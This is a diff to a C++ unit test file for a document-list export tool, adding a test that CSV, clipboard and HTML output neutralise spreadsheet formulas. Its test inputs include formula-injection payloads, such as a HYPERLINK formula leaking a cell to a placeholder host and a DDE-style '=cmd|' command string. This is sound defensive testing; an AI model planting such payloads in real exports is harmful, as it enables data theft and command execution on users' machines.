@@ -101,13 +101,41 @@ TEST(ListOutput, ListLinesCannotBeSplitAndCsvFieldsAreQuoted) {
   EXPECT_EQ(CsvField("\""), "\"\"\"\"");
 }
 
+// A document's properties are written by whoever wrote the document: no
+// value reaches a spreadsheet as a formula, in any CSV or on the
+// clipboard; plain numbers stay numbers.
+TEST(ListOutput, NoValueGoesOutAsAFormula) {
+  for (const char* formula :
+       {"=HYPERLINK(\"http://x/?\"&A1,\"a\")", "=cmd|calc.docx", "+1+1", "-2+3", "@SUM(A1)",
+        "\tTab", "\rReturn", "-", "+", "=", "-.", "--5"}) {
+    EXPECT_EQ(InertCsvValue(formula), std::string("'") + formula) << formula;
+  }
+  for (const char* kept : {"-5", "+81", "-3.5", ".5", "12", "1+1", "a=b", "", "'=x", "表=1"}) {
+    EXPECT_EQ(InertCsvValue(kept), kept) << kept;
+  }
+  DocumentList list = List(1, 1);
+  list.SetField(0, 0, "=cmd|calc.docx");
+  list.SetField(0, 1, "=HYPERLINK(\"http://x\",\"y\")");
+  list.SetField(0, 4, "-5");
+  list.SetField(0, 5, "@x");
+  EXPECT_EQ(CsvText(list),
+            "'=cmd|calc.docx,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",,,-5,'@x,,,,,,,\r\n");
+  EXPECT_EQ(CsvUtf8Text(list).substr(CsvUtf8Text(list).find("\r\n") + 2),
+            "'=cmd|calc.docx,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",,,-5,'@x,,,,,\r\n");
+  EXPECT_EQ(CsvShiftJisText(list).bytes.substr(0, 16), "'=cmd|calc.docx,");
+  // The list itself keeps the value as read.
+  EXPECT_EQ(list.ListLines(';')[0].substr(0, 15), "=cmd|calc.docx;");
+  EXPECT_NE(HtmlTable(list).find("mso-number-format:\"\\@\""), std::string::npos);
+}
+
 TEST(ListOutput, TheHtmlTableHasTheHeadingsAndEscapedCells) {
   DocumentList list = List(3, 2);
   list.SetField(1, 1, "<b>a & \"b\"</b>");
   std::string html = HtmlTable(list);
   EXPECT_NE(html.find("<meta charset=\"utf-8\">"), std::string::npos);
   EXPECT_NE(html.find("<th>ファイル名</th>"), std::string::npos);
-  EXPECT_NE(html.find("<tr><td>d2</td><td>&lt;b&gt;a &amp; &quot;b&quot;&lt;/b&gt;</td>"),
+  EXPECT_NE(html.find("<tr><td sdnum=\"1041;0;@\">d2</td><td sdnum=\"1041;0;@\">&lt;b&gt;a &amp; "
+                      "&quot;b&quot;&lt;/b&gt;</td>"),
             std::string::npos)
       << html;
   EXPECT_EQ(std::count(html.begin(), html.end(), '\n'), 5);  // table, headings, two rows, end
